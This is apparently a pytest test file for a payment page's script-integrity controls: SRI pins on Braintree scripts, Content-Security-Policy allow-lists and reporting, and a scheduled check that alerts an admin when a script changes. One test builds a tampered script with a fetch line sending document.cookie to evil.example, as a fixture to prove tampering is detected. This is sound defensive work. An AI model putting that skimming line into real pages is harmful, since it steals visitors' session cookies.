"""The pay page's script inventory (PCI DSS 6.4.3 / 11.6.1): the page loads exactly the
inventory's scripts with SRI, its CSP allows exactly their origins and reports to us,
and a script whose content changes opens one alert for the admin."""

from __future__ import annotations

import dataclasses
from html.parser import HTMLParser
from pathlib import Path

import pytest
import requests
import responses
from flask import Flask
from flask.testing import FlaskClient

from connectors.psp.braintree import BraintreeGateway, card_entry_for
from connectors.psp.braintree_sandbox import SandboxServer
from crm_pay.page_scripts import pay_page_scripts, run_due_script_check
from crm_pay.services.access import create_api_key
from crm_pay.services.cases import open_cases
from crm_pay.services.context import Context
from crm_pay.services.script_inventory import last_check, sri, versioned_url
from crm_pay.wiring import braintree_merchant_accounts
from paytest import SANDBOX, create_link, csrf_of, token_of

CLIENT_JS = b"/* braintree client 3.111.0 */"
FIELDS_JS = b"/* braintree hosted-fields 3.111.0 */"
COLLECTOR_JS = b"/* braintree data-collector 3.111.0 */"
THREE_DS_JS = b"/* braintree three-d-secure 3.111.0 */"
BRAINTREE = "https://js.braintreegateway.com/web/3.111.0/js"
STATIC = Path(__file__).resolve().parents[3] / "agent_ui" / "static"
VENDOR = STATIC / "vendor" / "braintree-web"
# our script as the page links it: versioned by the content it serves
PAY_JS = versioned_url(
    "/pay/static/crm_pay_ui/crm_pay/pay.js", (STATIC / "crm_pay/pay.js").read_bytes()
)


class _Scripts(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.tags.append(dict(attrs))


def _script_tags(html: str) -> list[dict[str, str | None]]:
    parser = _Scripts()
    parser.feed(html)
    return parser.tags


def _pay_page(app: Flask) -> tuple[FlaskClient, str]:
    client = app.test_client()
    key = create_api_key(ctx_of(app), name="t", role="agent")
    _, payment = create_link(client, {"Authorization": f"Bearer {key}"}, amount="10.00")
    return client, f"/pay/p/{token_of(payment['pay_url'])}"


def ctx_of(app: Flask) -> Context:
    from crm_pay.current import get_context

    return get_context(app)


@pytest.fixture
def production(app: Flask, sandbox: SandboxServer) -> Flask:
    """The same app with Braintree's own scripts from its CDN, pinned: its PSP adapter
    declares them (``CardEntry``), on a gateway that still talks to the local sandbox
    (the client token comes from there; only the page's scripts are Braintree's)."""
    pinned = card_entry_for(
        "production",
        source="cdn",
        js_version="3.111.0",
        js_integrity={
            "client": sri(CLIENT_JS),
            "hosted-fields": sri(FIELDS_JS),
            "data-collector": sri(COLLECTOR_JS),
            "three-d-secure": sri(THREE_DS_JS),
        },
    )
    return _with_card_entry(app, sandbox, pinned)


def _with_card_entry(app: Flask, sandbox: SandboxServer, card_entry: object) -> Flask:
    ctx_of(app).psp = BraintreeGateway.for_local_sandbox(
        sandbox.gateway_url,
        merchant_id=SANDBOX["merchant_id"],
        public_key=SANDBOX["public_key"],
        private_key=SANDBOX["private_key"],
        merchant_accounts=braintree_merchant_accounts(dict(app.config)),
        card_entry=card_entry,
    )
    return app


@pytest.fixture
def bundled(app: Flask, sandbox: SandboxServer) -> Flask:
    """The same app serving braintree-web from its own vendor folder (the default with
    Braintree's sandbox and production)."""
    return _with_card_entry(app, sandbox, card_entry_for("production", source="bundled"))


def test_the_pay_page_loads_exactly_the_inventory_with_sri(
    app: Flask, sandbox: SandboxServer
) -> None:
    client, path = _pay_page(app)
    page = client.get(path)
    assert page.status_code == 200
    tags = _script_tags(page.text)
    inventory = pay_page_scripts(ctx_of(app))
    assert inventory is not None
    # a page offering no wallet loads the inventory's scripts but the wallets' ones
    assert [t["src"] for t in tags] == [s.url for s in inventory.scripts if s.loads_with([])]
    assert [t["src"] for t in tags] == [
        f"{sandbox.assets_url}/hosted-fields.js",
        PAY_JS,
    ]
    for tag in tags:
        assert tag["crossorigin"] == "anonymous"
        assert str(tag["integrity"]).startswith("sha384-")
    # The pins are the hashes of what is actually served (else browsers refuse them).
    served_sandbox = requests.get(str(tags[0]["src"]), timeout=5).content
    with client.get(str(tags[1]["src"])) as own:
        served_own = own.data
    assert tags[0]["integrity"] == sri(served_sandbox)
    assert tags[1]["integrity"] == sri(served_own)


def test_the_csp_allows_exactly_the_inventory_origins_and_reports_to_us(
    app: Flask, sandbox: SandboxServer
) -> None:
    client, path = _pay_page(app)
    page = client.get(path)
    csp = page.headers["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
    assert directives["script-src"] == f"'self' {sandbox.assets_url}"
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert directives["report-uri"] == "/pay/csp-report"
    # Over plain http (this app's public URL) only report-uri: Chromium would ignore it
    # for report-to, and sends no Reporting API report from an http page.
    assert "report-to" not in directives and "Reporting-Endpoints" not in page.headers


def test_over_https_the_reporting_api_is_offered_too(app: Flask) -> None:
    ctx = ctx_of(app)
    ctx.settings = dataclasses.replace(ctx.settings, public_url="https://shop.test")
    client, path = _pay_page(app)
    page = client.get(path, base_url="https://shop.test")
    csp = page.headers["Content-Security-Policy"]
    assert csp.endswith("report-uri /pay/csp-report; report-to crm-pay-csp")
    endpoint = "https://shop.test/pay/csp-report"
    assert page.headers["Reporting-Endpoints"] == f'crm-pay-csp="{endpoint}"'
    assert f'"url":"{endpoint}"' in page.headers["Report-To"]


def test_production_pins_braintree_scripts_and_allows_only_their_origin(
    production: Flask,
) -> None:
    client, path = _pay_page(production)
    page = client.get(path)
    assert page.status_code == 200
    tags = _script_tags(page.text)
    assert [(t["src"], t["integrity"]) for t in tags[:4]] == [
        (f"{BRAINTREE}/client.min.js", sri(CLIENT_JS)),
        (f"{BRAINTREE}/hosted-fields.min.js", sri(FIELDS_JS)),
        (f"{BRAINTREE}/data-collector.min.js", sri(COLLECTOR_JS)),
        (f"{BRAINTREE}/three-d-secure.min.js", sri(THREE_DS_JS)),
    ]
    script_src = _directives(page)["script-src"].split()
    # ours and Braintree's CDN, then what braintree-web loads itself: PayPal's fraud
    # script (data collector) and Cardinal's songbird (3-D Secure)
    assert script_src[:2] == ["'self'", "https://js.braintreegateway.com"]
    assert {"https://c.paypal.com", "https://songbird.cardinalcommerce.com"} <= set(script_src)
    assert "unsafe-inline" not in page.headers["Content-Security-Policy"]


def _directives(page: object) -> dict[str, str]:
    csp = page.headers["Content-Security-Policy"]  # type: ignore[attr-defined]
    return dict(d.strip().split(" ", 1) for d in csp.split(";"))


def test_bundled_braintree_web_is_served_by_us_with_the_file_s_hash(bundled: Flask) -> None:
    client, path = _pay_page(bundled)
    page = client.get(path)
    assert page.status_code == 200
    tags = _script_tags(page.text)
    names = ["client", "hosted-fields", "data-collector", "three-d-secure"]
    prefix = "/pay/static/crm_pay_ui/vendor/braintree-web"
    assert [t["src"] for t in tags] == [
        *(versioned_url(f"{prefix}/{n}.js", (VENDOR / f"{n}.js").read_bytes()) for n in names),
        PAY_JS,
    ]
    for tag, name in zip(tags, names, strict=False):
        # the pin is the hash of the bytes we serve: the copy make install took from npm
        with client.get(str(tag["src"])) as served:
            assert served.status_code == 200
            assert tag["integrity"] == sri(served.data) == sri((VENDOR / f"{name}.js").read_bytes())
    script_src = _directives(page)["script-src"].split()
    assert script_src[0] == "'self'" and "https://js.braintreegateway.com" not in script_src
    # nothing for the admin to pin, and the scheduled check reads our own files
    with responses.RequestsMock():  # no request may leave: a fetch would fail the test
        results = {
            r.name: r.status for r in pay_page_scripts(ctx_of(bundled)).check(ctx_of(bundled))
        }
    # the wallets' components and script are in the inventory and checked too
    wallets = ["google-payment", "apple-pay", "paypal-checkout", "venmo", "pay_wallets.js"]
    assert results == dict.fromkeys([*names, *wallets, "pay.js"], "ok")


def _serve(rsps: responses.RequestsMock, fields_body: bytes) -> None:
    rsps.get(f"{BRAINTREE}/client.min.js", body=CLIENT_JS)
    rsps.get(f"{BRAINTREE}/hosted-fields.min.js", body=fields_body)
    rsps.get(f"{BRAINTREE}/data-collector.min.js", body=COLLECTOR_JS)
    rsps.get(f"{BRAINTREE}/three-d-secure.min.js", body=THREE_DS_JS)


def test_a_changed_script_opens_one_alert_however_often_it_is_checked(
    production: Flask, admin: FlaskClient
) -> None:
    ctx = ctx_of(production)
    inventory = pay_page_scripts(ctx)
    assert inventory is not None
    with responses.RequestsMock() as rsps:
        _serve(rsps, FIELDS_JS)
        assert {r.status for r in inventory.check(ctx)} == {"ok"}
    assert open_cases(ctx, kinds=frozenset({"pay_page_script_changed"})) == []
    page = admin.get("/pay/admin/scripts").text
    assert 'data-script="hosted-fields" data-status="ok"' in page

    tampered = FIELDS_JS + b"fetch('https://evil.example/'+document.cookie)"
    for _ in range(2):
        with responses.RequestsMock() as rsps:
            _serve(rsps, tampered)
            results = {r.name: r for r in inventory.check(ctx)}
        assert results["hosted-fields"].status == "changed"
        assert results["client"].status == "ok"
    alerts = open_cases(ctx, kinds=frozenset({"pay_page_script_changed"}))
    assert len(alerts) == 1
    assert alerts[0]["detail"]["observed"] == sri(tampered)
    overview = admin.get("/pay/admin/").text
    assert f"{BRAINTREE}/hosted-fields.min.js no longer matches its pinned hash" in overview
    page = admin.get("/pay/admin/scripts").text
    assert 'data-script="hosted-fields" data-status="changed"' in page
    assert sri(tampered) in page


def test_an_unreachable_script_is_reported_but_is_not_a_change(production: Flask) -> None:
    ctx = ctx_of(production)
    inventory = pay_page_scripts(ctx)
    assert inventory is not None
    with responses.RequestsMock() as rsps:
        rsps.get(f"{BRAINTREE}/client.min.js", status=503)
        rsps.get(f"{BRAINTREE}/hosted-fields.min.js", body=FIELDS_JS)
        rsps.get(f"{BRAINTREE}/data-collector.min.js", body=COLLECTOR_JS)
        rsps.get(f"{BRAINTREE}/three-d-secure.min.js", body=THREE_DS_JS)
        results = {r.name: r for r in inventory.check(ctx)}
    assert results["client"].status == "unreachable"
    assert "HTTP 503" in str(results["client"].error)
    assert open_cases(ctx, kinds=frozenset({"pay_page_script_changed"})) == []


def test_the_cli_checks_the_development_scripts_through_the_sandbox(app: Flask) -> None:
    result = app.test_cli_runner().invoke(args=["crm-pay", "scripts", "check"])
    assert result.exit_code == 0, result.output
    assert "ok           hosted-fields" in result.output
    assert "ok           pay.js" in result.output
    listing = app.test_cli_runner().invoke(args=["crm-pay", "scripts", "list"])
    assert "crm-pay development sandbox" in listing.output and "sha384-" in listing.output


def test_the_admin_can_check_now_and_others_cannot_see_the_page(
    app: Flask, admin: FlaskClient, agent: FlaskClient
) -> None:
    page = admin.get("/pay/admin/scripts")
    assert page.status_code == 200 and "Not checked yet." in page.text
    done = admin.post(
        "/pay/admin/scripts/check", data={"csrf_token": csrf_of(page.text)}, follow_redirects=True
    )
    # hosted fields (the sandbox's stand-in), pay.js and pay_wallets.js
    assert "All 3 scripts match their pinned hashes." in done.text
    assert 'data-status="ok"' in done.text and "Not checked yet." not in done.text
    assert admin.post("/pay/admin/scripts/check").status_code == 400  # no CSRF token
    assert agent.get("/pay/admin/scripts").status_code == 403
    assert 'href="/pay/admin/scripts"' in admin.get("/pay/admin/").text


def test_the_worker_checks_on_its_first_pass_then_once_per_interval(app: Flask) -> None:
    ctx = ctx_of(app)
    first = run_due_script_check(ctx)
    assert first is not None and {r.status for r in first} == {"ok"}
    seen = last_check(ctx)
    assert seen is not None and seen["actor"] == "system:script-check"
    assert run_due_script_check(ctx) is None  # CRM_PAY_SCRIPT_CHECK_INTERVAL not over


@pytest.mark.parametrize("app_settings", [{"CRM_PAY_SCRIPT_CHECK_INTERVAL": 0}])
def test_an_interval_of_zero_turns_the_schedule_off(app: Flask) -> None:
    ctx = ctx_of(app)
    assert run_due_script_check(ctx) is None
    assert last_check(ctx) is None
